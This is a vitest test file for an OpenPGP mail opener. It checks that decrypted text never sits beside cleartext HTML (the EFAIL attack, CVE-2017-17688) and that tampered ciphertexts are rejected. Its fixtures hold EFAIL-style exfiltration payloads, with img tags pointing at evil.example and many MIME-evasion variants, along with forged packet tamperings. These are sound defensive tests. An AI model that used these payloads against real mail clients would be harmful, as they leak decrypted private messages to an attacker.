import * as openpgp from 'openpgp';
import { describe, expect, it } from 'vitest';
import { parseEntity } from '../../src/mail/message.ts';
import { viewOf } from '../../src/mail/view.ts';
import { type OpenedMail, openMail } from '../../src/pgp/open.ts';
import { packetsOf } from '../../src/pgp/packets.ts';
import { makeParty } from '../support/party.ts';

const AT = Date.parse('2026-09-07T09:12:00Z');
const list = await makeParty('security@orbit.example');
const rae = await makeParty('rae@research.example');
const listSecret = await openpgp.readPrivateKey({ armoredKey: list.secret });
const SECRET = 'the-secret-words';

const open = (...lines: string[]) =>
  openMail(
    {
      raw: Buffer.from(['From: eve@evil.example', 'Subject: x', ...lines, ''].join('\r\n')),
      secrets: [listSecret.write()],
      at: AT,
    },
    async () => [],
  );
const armor = async (text: string) =>
  openpgp.encrypt({
    message: await openpgp.createMessage({ text }),
    encryptionKeys: await openpgp.readKey({ armoredKey: list.public }),
    signingKeys: await openpgp.readPrivateKey({ armoredKey: rae.secret }),
    date: new Date(AT),
  });
const armored = (await armor(SECRET)).replaceAll(/\r?\n/g, '\r\n');
const octets = Buffer.from(/\r\n\r\n([A-Za-z0-9+/=\r\n]+?)(\r\n=....)?\r\n-----END/.exec(armored)?.[1] ?? '', 'base64');
/** One session key for the list, then the data. */
const [sessionKey, data] = [...packetsOf(octets)].map(({ start, end }) => octets.subarray(start, end)) as [Buffer, Buffer];
const pgpMime = [
  'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e',
  '',
  ...['--e', 'Content-Type: application/pgp-encrypted', '', 'Version: 1'],
  ...['--e', 'Content-Type: application/octet-stream', '', armored, '--e--'],
];
const inline = ['Content-Type: text/plain', '', armored];
const file = ['Content-Type: application/octet-stream; name="a.txt.pgp"', '', armored];
const html = (words: string) => ['Content-Type: text/html', '', words];
const many = (kind: string, ...parts: string[][]) => [
  `Content-Type: multipart/${kind}; boundary=m`,
  '',
  ...parts.flatMap((part) => ['--m', ...part]),
  '--m--',
];
const contentOf = ({ content }: OpenedMail) => Buffer.from(content).toString('latin1');

describe('what was decrypted never stands beside HTML that came in clear (CVE-2017-17688)', () => {
  const before = html('<img src="https://evil.example/?');
  const after = html('">');
  it.each([
    ['PGP/MIME between two parts', many('mixed', before, pgpMime, after)],
    ['PGP/MIME after a part', many('mixed', before, pgpMime)],
    ['PGP/MIME in multipart/related', many('related', html('see <iframe src="cid:target"></iframe>'), pgpMime)],
    ['armor in a text between two parts', many('mixed', before, inline, after)],
    ['a file between two parts', many('mixed', before, file, after)],
    ['an alternative', many('alternative', inline, html('see <img src="https://evil.example/?">'))],
    ['text/enriched', many('mixed', ['Content-Type: text/enriched', '', '<x-img>evil.example'], pgpMime)],
    ['words around armor in HTML', html(`see <img src="https://evil.example/"><pre>${armored}</pre>`)],
  ])('%s', async (_, lines) => {
    const opened = await open(...lines);
    const { text, files } = viewOf(parseEntity(opened.content));
    expect([text, ...files.map(({ bytes }) => Buffer.from(bytes).toString())].join('\n')).toContain(SECRET);
    expect(contentOf(opened)).not.toMatch(/evil\.example|cid:target|<img|">/);
    expect(opened).toMatchObject({ allEncrypted: false, signer: null, warnings: expect.arrayContaining(['unprotected-text']) });
    expect(opened.aside).not.toEqual([]);
    expect(Buffer.concat(opened.aside).toString()).not.toContain(SECRET);
  });

  const page = (words: string) => ['Content-Type: text/html', '', words];
  const DAMAGED = '-----BEGIN PGP MESSAGE-----\r\n\r\nabcd\r\n-----END PGP MESSAGE-----';
  const divided = (boundary: string, used: string, words: string) => [
    `Content-Type: multipart/mixed; boundary=${boundary}`,
    '',
    `--${used}`,
    ...page(words),
    `--${used}--`,
  ];
  const signedBy = (part: string[], signature: string) => [
    'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=s',
    '',
    ...['--s', ...part, '--s', 'Content-Type: application/pgp-signature', '', signature, '--s--'],
  ];
  const damagedMime = [
    'Content-Type: multipart/encrypted; boundary=s',
    '',
    ...['--s', 'Content-Type: application/pgp-encrypted', '', 'Version: 1'],
    ...['--s', 'Content-Type: application/octet-stream', '', DAMAGED, '--s--'],
  ];
  const forms: readonly [string, (words: string) => string[]][] = [
    ['with a comment in its type', (words) => ['Content-Type: text/html (x)', '', words]],
    ['with a word behind its type', (words) => ['Content-Type: text/html x', '', words]],
    ['with a type that nobody can read', (words) => ['Content-Type: text/html/x', '', words]],
    ['with two types', (words) => ['Content-Type: text/plain', 'Content-Type: text/html', '', words]],
    [
      'in a multipart with a comment',
      (words) => ['Content-Type: multipart/mixed (x); boundary=q', '', '--q', ...page(words), '--q--'],
    ],
    ['in a multipart without parts', (words) => ['Content-Type: multipart/mixed; boundary=q', '', ...page(words)]],
    ['in a mail', (words) => ['Content-Type: message/rfc822', '', 'From: a@b.example', ...page(words)]],
    [
      'in a mail that says it is a file',
      (words) => ['Content-Type: message/rfc822', 'Content-Disposition: attachment', '', ...page(words)],
    ],
    ['that says it is a file', (words) => ['Content-Type: text/html', 'Content-Disposition: attachment', '', words]],
    ['as XHTML', (words) => ['Content-Type: application/xhtml+xml', 'Content-Disposition: inline', '', words]],
    ['as an image', (words) => ['Content-Type: image/svg+xml', '', words]],
    [
      'in a digest',
      (words) => ['Content-Type: multipart/digest; boundary=q', '', '--q', '', 'From: a@b.example', ...page(words), '--q--'],
    ],
    ['under a boundary with a comment for some', (words) => divided('q(c)', 'q(c)', words)],
    ['under two boundaries', (words) => divided("q; boundary*=utf-8''r", 'r', words)],
    ['under a boundary that ends in a blank', (words) => divided('"q "', 'q', words)],
    ['under a boundary with an escape', (words) => divided('"q\\r"', 'qr', words)],
    ['under a boundary of two words', (words) => divided('q r', 'q', words)],
    ['with a signature that is none', (words) => signedBy(page(words), 'x')],
    ['with damaged armor in it', (words) => page(`<pre>${DAMAGED}</pre>${words}`)],
    ['in a file with damaged armor', (words) => ['Content-Type: text/html; name="x.asc"', '', `${DAMAGED}\r\n${words}`]],
    ['beside damaged PGP/MIME', (words) => [...damagedMime.slice(0, -1), '--s', ...page(words), '--s--']],
    ['by its name', (words) => ['Content-Type: application/octet-stream; name=x.html', '', words]],
    [
      'as a mail by its name',
      (words) => ['Content-Type: application/octet-stream', 'Content-Disposition: inline; filename=x.eml', '', ...page(words)],
    ],
    ['in two encodings', (words) => ['Content-Transfer-Encoding: 7bit', 'Content-Transfer-Encoding: 8bit', ...page(words)]],
  ];
  it.each(forms)('HTML %s', async (_, form) => {
    for (const secret of [inline, file, pgpMime]) {
      const opened = await open(...many('mixed', form('<img src="https://evil.example/?'), secret, form('">')));
      const { text, files } = viewOf(parseEntity(opened.content));
      expect([text, ...files.map(({ bytes }) => Buffer.from(bytes).toString())].join('\n')).toContain(SECRET);
      expect(contentOf(opened)).not.toMatch(/evil\.example|<img|">/);
      expect(opened.warnings).toContain('unprotected-text');
    }
  });

  it('HTML that was encrypted by itself does not stand beside another secret, and beside none it stays', async () => {
    const seal = async (words: string) => [
      ...pgpMime.slice(0, -2),
      (await armor(page(words).join('\r\n'))).replaceAll(/\r?\n/g, '\r\n'),
      '--e--',
    ];
    const [first, last] = [await seal('<img src="https://evil.example/?'), await seal('">')];
    for (const secret of [inline, file, pgpMime]) {
      const opened = await open(...many('mixed', first, secret, last));
      expect(contentOf(opened)).not.toMatch(/evil\.example|<img|">/);
      const { text, files } = viewOf(parseEntity(opened.content));
      expect([text, ...files.map(({ bytes }) => Buffer.from(bytes).toString())].join('\n')).toContain(SECRET);
    }
    expect(contentOf(await open(...many('mixed', first, ['Content-Type: text/plain', '', 'a footer'])))).toContain(
      'evil.example',
    );
  });

  it.each([
    ['an image', 'image/png'],
    ['a document', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['an archive', 'application/gzip'],
  ])('%s stays where it is', async (_, type) => {
    const part = [`Content-Type: ${type}; name=a.bin`, 'Content-Disposition: attachment', '', 'octets-of-it'];
    const opened = await open(...many('mixed', inline, part));
    expect(contentOf(opened)).toContain('octets-of-it');
    expect(contentOf(opened)).toContain(SECRET);
  });

  it('armor inside of a tag is not looked for', async () => {
    const opened = await open(...html(`<img src="https://evil.example/?\r\n${armored}\r\n">`));
    expect(opened).toMatchObject({ encrypted: false });
    expect(contentOf(opened)).not.toContain(SECRET);
  });

  it('HTML in clear stays where it is in a mail of which nothing was encrypted', async () => {
    const signed = await openpgp.sign({
      message: await openpgp.createCleartextMessage({ text: 'signed' }),
      signingKeys: await openpgp.readPrivateKey({ armoredKey: rae.secret }),
      date: new Date(AT),
    });
    const opened = await open(...many('mixed', html('<p>hello</p>'), ['Content-Type: text/plain', '', signed]));
    expect(contentOf(opened)).toContain('<p>hello</p>');
  });
});

describe('a message that was tampered with is refused in every place where it may stand', () => {
  const literal = Buffer.from([0xcb, 7, 0x75, 0, 0, 0, 0, 0, 0x61]);
  const body = data.subarray(data[1] === 0xff ? 6 : (data[1] ?? 0) < 192 ? 2 : 3);
  const packet = (tag: number, content: Uint8Array) => {
    const head = Buffer.from([0xc0 | tag, 0xff, 0, 0, 0, 0]);
    head.writeUInt32BE(content.length, 2);
    return Buffer.concat([head, content]);
  };
  const flipped = Buffer.from(octets);
  flipped[octets.length - 40] = (octets[octets.length - 40] ?? 0) ^ 1;
  const harms: readonly [string, Uint8Array][] = [
    ['one bit of the data', flipped],
    ['its last octet gone', octets.subarray(0, -1)],
    ['its MDC gone', Buffer.concat([sessionKey, packet(18, body.subarray(0, -22))])],
    ['twice', Buffer.concat([octets, octets])],
    ['its data twice', Buffer.concat([sessionKey, data, data])],
    ['a literal before it', Buffer.concat([literal, octets])],
    ['a literal after it', Buffer.concat([octets, literal])],
    ['a literal between', Buffer.concat([sessionKey, literal, data])],
    ['two literals', Buffer.concat([literal, literal])],
    ['as data without integrity (tag 9)', Buffer.concat([sessionKey, packet(9, body.subarray(1))])],
    ['as AEAD data of GnuPG (tag 20)', Buffer.concat([sessionKey, packet(20, body)])],
    ['without its session key', Buffer.from(data)],
  ];
  const places: readonly [string, (bytes: Uint8Array) => string[]][] = [
    [
      'PGP/MIME',
      (bytes) => [
        'Content-Type: multipart/encrypted; boundary=e',
        '',
        ...['--e', 'Content-Type: application/pgp-encrypted', '', 'Version: 1'],
        ...['--e', 'Content-Type: application/octet-stream', 'Content-Transfer-Encoding: base64', '', base64(bytes), '--e--'],
      ],
    ],
    ['inline', (bytes) => ['', `-----BEGIN PGP MESSAGE-----\r\n\r\n${base64(bytes)}\r\n-----END PGP MESSAGE-----`]],
    [
      'attached',
      (bytes) =>
        many(
          'mixed',
          ['Content-Type: text/plain', '', 'see the file'],
          ['Content-Type: application/octet-stream; name="a.gpg"', 'Content-Transfer-Encoding: base64', '', base64(bytes)],
        ),
    ],
  ];
  for (const [place, wrap] of places)
    it.each(harms)(`${place}: %s`, async (_, harmed) => {
      await expect(open(...wrap(harmed))).rejects.toMatchObject({ reason: 'cannot-open', hint: undefined });
    });
});

function base64(bytes: Uint8Array): string {
  return Buffer.from(bytes)
    .toString('base64')
    .replace(/.{76}(?=.)/g, '$&\r\n');
}
